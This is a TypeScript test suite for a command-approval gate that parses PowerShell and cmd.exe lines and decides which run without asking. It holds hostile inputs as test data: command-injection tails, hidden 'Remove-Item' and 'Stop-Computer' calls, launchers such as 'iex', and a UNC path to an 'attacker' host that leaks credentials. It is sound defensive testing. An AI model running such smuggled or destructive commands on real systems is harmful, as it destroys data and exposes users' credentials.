// The approval gate on PowerShell and cmd.exe lines. No PowerShell runs on the test machines (there
// is none for Linux in the distribution, and Wine's is a stub), so these check the gate's reading of
// tree-sitter-powershell's parse trees: every read-only line of the corpus is plain and known safe,
// every hostile one asks, and the words of a plain line are what PowerShell would pass.
import { strict as assert } from 'node:assert';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { lineCovered, proposedPrefix } from '../../../../server/approvals/commandPrefixes';
import { ExecpolicyRules } from '../../../../server/approvals/execpolicyRules';
import { isKnownSafe, runsGit } from '../../../../server/approvals/safeCommands';
import { commandActions } from '../../../../server/exec/commandActions';
import { parseCommandLine } from '../../../../server/exec/commandLine';
import { createLogger } from '../../../../server/log';
import { tempDir } from '../../../support/serverProcess';
import {
  POWERSHELL_HOSTILE,
  POWERSHELL_NOT_PLAIN,
  POWERSHELL_READ_ONLY,
} from '../../../fixtures/powershellCorpus';

const read = (text: string) => parseCommandLine(text, 'powershell');
const safe = async (text: string) => isKnownSafe(await read(text));

describe('the approval gate on PowerShell lines', () => {
  it('runs every read-only line of the corpus unasked', async () => {
    const asked: string[] = [];
    for (const text of POWERSHELL_READ_ONLY) if (!(await safe(text))) asked.push(text);
    assert.deepEqual(asked, []);
  });

  it('asks about every hostile line of the corpus', async () => {
    const passed: string[] = [];
    for (const text of POWERSHELL_HOSTILE) if (await safe(text)) passed.push(text);
    assert.deepEqual(passed, []);
  });

  it('reads no line PowerShell computes a part of as plain: the rules never see made-up words', async () => {
    const plain: string[] = [];
    for (const text of POWERSHELL_NOT_PLAIN) if ((await read(text)).plain) plain.push(text);
    assert.deepEqual(plain, []);
  });

  it('asks about every read-only line with an expansion, redirection, escape or writer added', async () => {
    const tails = [
      ' > pwned',
      ' 2>&1',
      ' $(New-Item pwned)',
      ' "$env:X"',
      ' @x',
      ' `; New-Item pwned',
      '; New-Item pwned',
      ' | Out-File pwned',
      ' | % { New-Item pwned }',
    ];
    const passed: string[] = [];
    for (const text of POWERSHELL_READ_ONLY)
      for (const tail of tails) if (await safe(text + tail)) passed.push(text + tail);
    assert.deepEqual(passed, []);
  });

  it('reads the words PowerShell passes, quotes removed, and the operators between commands', async () => {
    const line = await read(`Get-Content 'it''s.txt' "a b" -Tail 5 | Select-String x; git status && ls`);
    assert.equal(line.plain, true);
    assert.deepEqual(
      line.commands.map((c) => [c.words, c.joiner]),
      [
        [['Get-Content', "it's.txt", 'a b', '-Tail', '5'], '|'],
        [['Select-String', 'x'], ';'],
        [['git', 'status'], '&&'],
        [['ls'], null],
      ],
    );
  });

  it('still sees the commands hidden in a line that is not plain, for the user’s rules', async () => {
    const line = await read('Get-Content "$(Remove-Item -Recurse src)" | % { Stop-Computer }');
    assert.equal(line.plain, false);
    const names = line.commands.map((c) => c.words[0]);
    assert.ok(names.includes('Remove-Item'), names.join(' '));
    assert.ok(names.includes('Stop-Computer'), names.join(' '));
  });

  it('takes a parameter by any prefix of an audited name, and no other', async () => {
    assert.equal(await safe('gc README.md -Ta 3'), true);
    assert.equal(await safe('gci -Rec'), true);
    // -En is Encoding here; -EncodedCommand is the shell's, never a reader's.
    assert.equal(await safe('gc README.md -En utf8'), true);
    assert.equal(await safe('gc README.md -O x'), false);
    assert.equal(await safe('gc README.md -pv x'), false);
  });

  it('takes git as on Unix, in any case and as git.exe, and says the line runs git', async () => {
    assert.equal(await safe('git.exe log -1'), true);
    assert.equal(await safe('Git log --ext-diff'), false);
    assert.equal(runsGit(await read('GIT.EXE status')), true);
    assert.equal(runsGit(await read('ls')), false);
  });

  it('reads the same line as bash differently: a bash reader is not a PowerShell one', async () => {
    assert.equal(isKnownSafe(await parseCommandLine('head -n 3 README.md')), true);
    assert.equal(await safe('head -n 3 README.md'), false);
  });
});

describe('the approval gate on cmd.exe lines', () => {
  it('knows nothing of them as safe, however harmless they look', async () => {
    for (const text of [
      'dir',
      'type README.md',
      'git status',
      'echo %PATH%',
      'dir & del /q x',
      'type a ^| x',
    ]) {
      const line = await parseCommandLine(text, 'cmd');
      assert.equal(line.plain, false, text);
      assert.equal(isKnownSafe(line), false, text);
    }
  });
});

describe('what a PowerShell line does, for display', () => {
  const actions = async (text: string) => commandActions(await read(text), text);

  it('reads the readers by their cmdlet, whatever alias names them, and their parameters', async () => {
    assert.deepEqual(await actions('gc -Tail 5 src\\a.ts'), [
      { type: 'read', command: 'gc -Tail 5 src\\a.ts', name: 'a.ts', path: 'src\\a.ts' },
    ]);
    assert.deepEqual(await actions("Get-Content -LiteralPath 'it''s.txt'"), [
      { type: 'read', command: "Get-Content -LiteralPath 'it''s.txt'", name: "it's.txt", path: "it's.txt" },
    ]);
    assert.deepEqual(await actions('dir -Recurse src | Sort-Object Length'), [
      { type: 'listFiles', command: 'dir -Recurse src', path: 'src' },
    ]);
    assert.deepEqual(await actions('Select-String -Path *.md "fn main"'), [
      { type: 'search', command: "Select-String -Path *.md 'fn main'", query: 'fn main', path: '*.md' },
    ]);
    assert.deepEqual(await actions('npm test'), [{ type: 'unknown', command: 'npm test' }]);
  });
});

describe('allowed prefixes and rules on PowerShell lines', () => {
  it('lets only PowerShell readers ride along with an allowed prefix', async () => {
    const allowed = [['npm', 'test']];
    assert.equal(lineCovered(await read('npm test; Get-Content log.txt'), allowed), true);
    // `cat` reads on both shells, but a UNC path sends the user's credentials: not on PowerShell.
    assert.equal(lineCovered(await read('npm test; cat \\\\attacker\\x'), allowed), false);
    assert.equal(lineCovered(await parseCommandLine('npm test; head -n 3 x'), allowed), true);
    assert.equal(lineCovered(await read('npm test; head -n 3 x'), allowed), false);
  });

  it('offers no prefix that would run anything: PowerShell and cmd launchers, in any case', async () => {
    for (const text of [
      'iex x',
      'Invoke-Expression x',
      'Start-Process x',
      'Invoke-Command x',
      'ForEach-Object x',
      'cmd /c x',
      'CMD.EXE /c x',
      'PWSH.exe -Command',
      'wsl rm x',
    ])
      assert.equal(proposedPrefix(await read(text), []), null, text);
    assert.deepEqual(proposedPrefix(await read('Get-Content x; npm test'), []), ['npm', 'test']);
  });

  it('matches forbidden and prompt rules in any case and without .exe, as Windows finds commands', async () => {
    const home = tempDir('threadline-rules-');
    mkdirSync(join(home, 'rules'));
    writeFileSync(
      join(home, 'rules', 'a.rules'),
      [
        'prefix_rule(pattern=["Remove-Item"], decision="forbidden")',
        'prefix_rule(pattern=["git", "push"], decision="prompt")',
      ].join('\n'),
    );
    const rules = new ExecpolicyRules(
      home,
      createLogger('error', () => {}),
    );
    const verdict = async (text: string) => (await rules.verdict(await read(text)))?.decision ?? null;
    assert.equal(await verdict('remove-item -Recurse src'), 'forbidden');
    assert.equal(await verdict('ls; REMOVE-ITEM x'), 'forbidden');
    assert.equal(await verdict('Get-Content "$(Remove-Item x)"'), 'forbidden');
    assert.equal(await verdict('GIT.exe PUSH origin'), 'prompt');
    assert.equal(await verdict('git status'), null);
    // On bash, case still counts: `Remove-Item` is not `remove-item` there.
    assert.equal((await rules.verdict(await parseCommandLine('remove-item x')))?.decision ?? null, null);
  });
});
